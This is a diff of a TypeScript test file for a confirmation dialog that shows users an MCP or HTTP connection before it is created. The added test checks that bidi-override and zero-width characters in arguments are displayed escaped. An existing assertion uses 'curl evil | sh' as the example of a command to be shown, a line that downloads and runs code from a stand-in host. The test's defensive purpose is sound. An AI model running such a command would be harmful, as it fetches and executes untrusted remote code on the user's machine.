@@ -18,6 +18,12 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(question?.detail).toContain('    sh\n    -c\n    "curl evil | sh"\nWorking directory: /tmp')
   })
 
+  test('a command shows the characters that would hide or reorder it', () => {
+    const config = { kind: 'mcp' as const, command: 'C:\\tools\\run.exe', args: ['a\u202eb', 'c\u200bd', 'e\u0085f'] }
+    const detail = confirmConnection({ name: 'files', config })?.detail
+    expect(detail).toContain('    C:\\tools\\run.exe\n    "a\\u{202e}b"\n    "c\\u{200b}d"\n    "e\\u{85}f"')
+  })
+
   test('a file or variable is confirmed with where its secret goes', () => {
     const http = confirmConnection({
       name: 'api',
